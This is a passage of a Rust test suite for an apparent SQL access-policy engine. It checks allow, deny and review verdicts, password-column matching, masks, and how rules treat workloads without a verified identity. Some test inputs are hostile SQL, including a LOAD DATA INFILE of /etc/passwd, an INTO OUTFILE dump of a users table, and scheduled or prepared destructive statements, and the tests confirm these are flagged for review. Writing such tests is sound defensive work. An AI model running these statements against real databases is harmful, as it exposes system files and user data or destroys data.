        if d.verdict != *verdict || d.rule.as_deref().unwrap_or("") != *rule {
            failures.push(format!(
                "{dialect:?} {sql_text}: want {verdict} by {rule:?}, got {} by {:?} ({})",
                d.verdict, d.rule, d.reason
            ));
        }
    }
    // What does not parse is reviewed.
    for (dialect, sql_text) in [
        (Dialect::Postgres, "MOVE NEXT FROM c"),
        (Dialect::Postgres, "CREATE PUBLICATION p FOR ALL TABLES"),
        (Dialect::Mysql, "PREPARE s FROM 'DROP TABLE t'"),
        (
            Dialect::Mysql,
            "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
        ),
        (
            Dialect::Mysql,
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        ),
        (
            Dialect::Mysql,
            "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM t",
        ),
    ] {
        let e = sql::classify(sql_text, dialect).unwrap_err().to_string();
        let op = Operation::SqlUnparsed {
            text: sql_text,
            error: &e,
        };
        let d = p.decide(&w, &pg(), &op);
        if d.verdict != Verdict::Review {
            failures.push(format!("unparsed {sql_text}: got {}", d.verdict));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn sql_columns_matcher() {
    let w = workload();
    let t = pg();
    // (match, statement, deny rule matches, allow rule matches)
    let cases: &[(&str, &str, bool, bool)] = &[
        (
            "sql.columns = \"password*\"",
            "SELECT id FROM users WHERE password = 'x'",
            true,
            true,
        ),
        (
            "sql.columns = \"password*\"",
            "SELECT u.\"Password_Hash\" FROM users u",
            true,
            true,
        ),
        (
            "sql.columns = \"password*\"",
            "UPDATE users SET password = 'x' WHERE id = 1",
            true,
            true,
        ),
        (
            "sql.columns = \"password*\"",
            "INSERT INTO users (id, password) VALUES (1, 'x')",
            true,
            true,
        ),
        (
            "sql.columns = \"password*\"",
            "SELECT id, name FROM users",
            false,
            false,
        ),
        // Columns it does not name: may be a password for a deny rule, not
        // for an allow rule.
        (
            "sql.columns = \"password*\"",
            "SELECT * FROM users",
            true,
            false,
        ),
        (
            "sql.columns = \"password*\"",
            "SELECT row_to_json(u) FROM users u",
            true,
            false,
        ),
        (
            "sql.columns = \"password*\"",
            "INSERT INTO users VALUES (1, 'x')",
            true,
            false,
        ),
        (
            "sql.columns = \"password*\"",
            "SELECT count(*) FROM users",
            false,
            false,
        ),
        (
            "sql.tables = \"orders\", sql.columns = \"password*\"",
            "SELECT * FROM users",
            false,
            false,
        ),
    ];
    for (m, q, deny_want, allow_want) in cases {
        let deny = one_rule(m);
        let d = decide_sql(&deny, &w, &t, q);
        assert_eq!(
            d.verdict == Verdict::Deny,
            *deny_want,
            "deny {{ {m} }} on {q}: {}",
            d.reason
        );
        let allow = parse(&format!(
            "[defaults]\ndecision = \"review\"\n[[rule]]\nname = \"r\"\ndecision = \"allow\"\nmatch = {{ {m} }}\n"
        ));
        let d = decide_sql(&allow, &w, &t, q);
        assert_eq!(
            d.verdict == Verdict::Allow,
            *allow_want,
            "allow {{ {m} }} on {q}: {}",
            d.reason
        );
    }
    let d = decide_sql(
        &one_rule("sql.columns = \"pass*\""),
        &w,
        &t,
        "SELECT password FROM users",
    );
    assert!(d.reason.contains("sql.columns=password"), "{}", d.reason);
    let d = decide_sql(
        &one_rule("sql.columns = \"pass*\""),
        &w,
        &t,
        "SELECT * FROM users",
    );
    assert!(d.reason.contains("sql.columns=*"), "{}", d.reason);
}

// ------------------------------------------- identity keys, no verified identity

/// Policies whose rules mix identity keys, `final`, `require_identity` and
/// defaults, each with the operations to judge.
const UNVERIFIED: &[(&str, &str)] = &[
    (
        "plain-deny",
        r#"
[[rule]]
name = "contractors-no-drop"
decision = "deny"
match = { identity.repository = "contractors/*", sql.statement = "drop" }
"#,
    ),
    (
        "allow-final-for-release",
        r#"
[[rule]]
name = "release-anything"
decision = "allow"
final = true
match = { identity.repository = "acme/deploy" }

[[rule]]
name = "no-drop"
decision = "deny"
match = { sql.statement = "drop" }
"#,
    ),
    (
        "review-final-before-deny",
        r#"
[[rule]]
name = "dba-drops-reviewed"
decision = "review"
final = true
match = { identity.repository = "acme/dba", sql.statement = "drop" }

[[rule]]
name = "no-drop"
decision = "deny"
final = true
match = { sql.statement = "drop" }
"#,
    ),
    (
        "deny-final-after-allow-final",
        r#"
[[rule]]
name = "selects-final"
decision = "allow"
final = true
match = { sql.statement = "select" }

[[rule]]
name = "contractors-final"
decision = "deny"
final = true
match = { identity.repository = "contractors/*" }
"#,
    ),
    (
        "deny-final-before-allow-final",
        r#"
[[rule]]
name = "contractors-final"
decision = "deny"
final = true
match = { identity.repository = "contractors/*" }

[[rule]]
name = "selects-final"
decision = "allow"
final = true
match = { sql.statement = "select" }
"#,
    ),
    (
        "default-deny-review-for-identity",
        r#"
[defaults]
decision = "deny"

[[rule]]
name = "contractors-review"
decision = "review"
match = { identity.repository = "contractors/*" }

[[rule]]
name = "acme-allowed"
decision = "allow"
match = { identity.repository = "acme/*" }
"#,
    ),
    (
        "require-identity-on-identity-rule",
        r#"
[[rule]]
name = "acme-writes"
decision = "review"
require_identity = true
match = { identity.repository = "acme/*", sql.statement = "insert" }
"#,
    ),
    (
        "unparsed-floor",
        r#"
[defaults]
unparsed = "review"

[[rule]]
name = "contractors-deny"
decision = "deny"
match = { identity.repository = "contractors/*" }
"#,
    ),
];

const UNVERIFIED_SQL: &[&str] = &[
    "SELECT 1",
    "DROP TABLE t",
    "INSERT INTO t VALUES (1)",
    "DELETE FROM t",
];

fn identities() -> Vec<Workload> {
    [
        "contractors/site",
        "acme/deploy",
        "acme/dba",
        "acme/app",
        "other/x",
    ]
    .iter()
    .map(|r| enrolled(&[("repository", r)]))
    .chain(std::iter::once(enrolled(&[(
        "actor",
        "no-repository-claim",
    )])))
    .collect()
}

/// The property the semantics exist for: whatever identity a workload could
/// enroll, having none is never less strict, for every operation, and masks
/// and limits never loosen either.
#[test]
fn no_identity_is_never_less_strict_than_any_identity() {
    let t = pg();
    let unverified = workload();
    for (name, text) in UNVERIFIED {
        let p = parse(text);
        let mut ops: Vec<(String, Decision)> = UNVERIFIED_SQL
            .iter()
            .map(|q| (q.to_string(), decide_sql(&p, &unverified, &t, q)))
            .collect();
        ops.push((
            "connect".into(),
            p.decide(&unverified, &t, &Operation::Connect),
        ));
        ops.push((
            "unparsed".into(),
            p.decide(
                &unverified,
                &t,
                &Operation::SqlUnparsed {
                    text: "FROB",
                    error: "x",
                },
            ),
        ));
        for id in identities() {
            for (i, q) in UNVERIFIED_SQL.iter().enumerate() {
                let d = decide_sql(&p, &id, &t, q);
                assert!(
                    ops[i].1.verdict >= d.verdict,
                    "{name}: {q}: unverified {:?} is less strict than {:?} for {:?} ({})",
                    ops[i].1,
                    d,
                    id.identity,
                    ops[i].1.reason
                );
            }
            let d = p.decide(&id, &t, &Operation::Connect);
            assert!(
                ops[UNVERIFIED_SQL.len()].1.verdict >= d.verdict,
                "{name}: connect"
            );
            let d = p.decide(
                &id,
                &t,
                &Operation::SqlUnparsed {
                    text: "FROB",
                    error: "x",
                },
            );
            assert!(
                ops[UNVERIFIED_SQL.len() + 1].1.verdict >= d.verdict,
                "{name}: unparsed"
            );
        }
    }
}

#[test]
fn rules_with_identity_keys_without_a_verified_identity() {
    let t = pg();
    let w = workload();
    // (policy, statement, verdict, deciding rule)
    let cases: &[(&str, &str, Verdict, Option<&str>)] = &[
        // A deny rule for an identity applies to the unidentified.
        (
            "plain-deny",
            "DROP TABLE t",
            Verdict::Deny,
            Some("contractors-no-drop"),
        ),
        ("plain-deny", "SELECT 1", Verdict::Allow, None),
        // An allow-final rule for an identity does not.
        (
            "allow-final-for-release",
            "DROP TABLE t",
            Verdict::Deny,
            Some("no-drop"),
        ),
        // A review-final rule for an identity cannot pre-empt a stricter
        // final rule after it.
        (
            "review-final-before-deny",
            "DROP TABLE t",
            Verdict::Deny,
            Some("no-drop"),
        ),
        ("review-final-before-deny", "SELECT 1", Verdict::Allow, None),
        // A certainly matching final rule before it still decides...
        (
            "deny-final-after-allow-final",
            "SELECT 1",
            Verdict::Allow,
            Some("selects-final"),
        ),
        (
            "deny-final-after-allow-final",
            "DELETE FROM t",
            Verdict::Deny,
            Some("contractors-final"),
        ),
        // ...but one after it does not pre-empt it.
        (
            "deny-final-before-allow-final",
            "SELECT 1",
            Verdict::Deny,
            Some("contractors-final"),
        ),
        // Only identity rules matched: the default still counts.
        (
            "default-deny-review-for-identity",
            "SELECT 1",
            Verdict::Deny,
            None,
        ),
        // require_identity on a rule that applies for want of an identity.
        (
            "require-identity-on-identity-rule",
            "INSERT INTO t VALUES (1)",
            Verdict::Deny,
            Some("acme-writes"),
        ),
        (
            "require-identity-on-identity-rule",
            "SELECT 1",
            Verdict::Allow,
            None,
        ),
    ];
    let policies: BTreeMap<&str, Policy> = UNVERIFIED.iter().map(|(n, t)| (*n, parse(t))).collect();
    for (name, q, verdict, rule) in cases {
        let d = decide_sql(&policies[name], &w, &t, q);
        assert_eq!(
            (d.verdict, d.rule.as_deref()),
            (*verdict, *rule),
            "{name}: {q}: {}",
            d.reason
        );
    }
    // Reasons say why.
    let d = decide_sql(
        &policies["review-final-before-deny"],
        &w,
        &t,
        "DROP TABLE t",
    );
    assert_eq!(
        d.reason,
        "rule \"no-drop\" matched (sql.statement=drop) and is final"
    );
    let d = decide_sql(
        &policies["deny-final-before-allow-final"],
        &w,
        &t,
        "SELECT 1",
    );
    assert_eq!(
        d.reason,
        "rule \"contractors-final\" matched (identity.repository=<unverified>; a deny rule's identity.* keys match a workload without a verified identity) and is final, before final rule \"selects-final\", which matched"
    );
    let d = decide_sql(
        &policies["default-deny-review-for-identity"],
        &w,
        &t,
        "SELECT 1",
    );
    assert_eq!(
        d.reason,
        "no rule matched for certain; defaults.decision = deny (stricter than rule \"contractors-review\", which matched only because the workload has no verified identity)"
    );
    let d = decide_sql(
        &policies["require-identity-on-identity-rule"],
        &w,
        &t,
        "INSERT INTO t VALUES (1)",
    );
    assert!(d.reason.starts_with("identity enrollment required: rule \"acme-writes\" matched (identity.repository=<unverified>, sql.statement=insert)"), "{}", d.reason);
    // Unparsed SQL: the stricter of the rule and defaults.unparsed.
    let d = policies["unparsed-floor"].decide(
        &w,
        &t,
        &Operation::SqlUnparsed {
            text: "FROB",
            error: "x",
        },
    );
    assert_eq!(
        (d.verdict, d.rule.as_deref()),
        (Verdict::Deny, Some("contractors-deny"))
    );
    // With a verified identity nothing changes: a claim the token lacks is
    // a verified absence and does not match.
    let no_repo = enrolled(&[("actor", "octocat")]);
    let d = decide_sql(&policies["plain-deny"], &no_repo, &t, "DROP TABLE t");
    assert_eq!((d.verdict, d.rule), (Verdict::Allow, None));
    let d = decide_sql(
        &policies["deny-final-before-allow-final"],
        &no_repo,
        &t,
        "SELECT 1",
    );
    assert_eq!(d.rule.as_deref(), Some("selects-final"));
}

#[test]
fn masks_with_identity_keys_apply_without_a_verified_identity() {
    let p = parse(EXAMPLE);
    let t = pg();
    let unverified = p.masker().for_context(&workload(), &t);
    assert!(
        unverified.column_masked("email"),
        "the contractors' mask applies"
    );
    assert!(unverified.column_masked("password_hash"));
    let acme = p
        .masker()
        .for_context(&enrolled(&[("repository", "acme/app")]), &t);
    assert!(!acme.column_masked("email"));
    // A mask whose other keys do not match still does not apply.
    let p = parse(
        "[[mask]]\ncolumns = [\"email\"]\nmatch = { identity.repository = \"c/*\", protocol = \"mysql\" }\n",
    );
    assert!(p.masker().for_context(&workload(), &t).is_empty());
    assert!(
        p.masker()
            .for_context(&workload(), &target(Protocol::Mysql))
            .column_masked("email")
    );
}
